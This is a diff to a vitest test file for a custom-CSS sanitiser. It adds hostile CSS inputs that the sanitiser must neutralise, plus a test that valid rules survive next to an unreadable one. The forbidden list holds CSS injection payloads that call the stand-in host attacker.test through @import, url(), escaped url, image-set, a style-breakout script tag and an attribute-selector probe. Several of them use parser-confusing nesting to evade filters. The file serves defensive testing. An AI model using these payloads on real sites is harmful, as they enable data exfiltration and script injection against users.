@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { cleanCustomCss } from './custom-css.rules.ts';
+import { cleanCustomCss } from './clean-css.ts';
 
 const forbidden = [
   '@import url(https://attacker.test/a.css);',
@@ -14,6 +14,13 @@ const forbidden = [
   '.a { behavior: url(attacker.test) }',
   '</style><script src="https://attacker.test"></script>',
   '@media screen { .a { cursor: url(https://attacker.test/c.cur), auto } }',
+  '.a{& ; background:url(https://attacker.test/p.png); x {color:red}}',
+  '.a{& ; background:\\75\\72\\6c(https://attacker.test/p.png); x {color:red}}',
+  '.a{& ; background:image-set("https://attacker.test/p.png" 1x); x {color:red}}',
+  '& ; background:url(https://attacker.test/p.png); x {color:red}',
+  '@media ; & {} url(https://attacker.test/p.png) { .a {color:red} }',
+  '@supports (background:url(https://attacker.test/p.png)) and ; { .a {color:red} }',
+  '.a { & b ; } .b[value^="a"] { ; background: url(https://attacker.test/a) }',
   '@namespace url(https://attacker.test/ns);',
 ];
 
@@ -21,6 +28,12 @@ test.each(forbidden)('custom CSS cannot reach out: %s', (css) => {
   const cleaned = cleanCustomCss(css);
   expect(cleaned).not.toContain('attacker.test');
   expect(cleaned).not.toContain('<');
+});
+
+test('custom CSS keeps the rest where one rule cannot be read', () => {
+  expect(cleanCustomCss('.a{& ; background:url(https://attacker.test/p.png); x {color:red}} .b{color:blue}')).toContain(
+    '.b{color:blue}',
+  );
 });
 
 test('custom CSS keeps what only changes the look', () => {
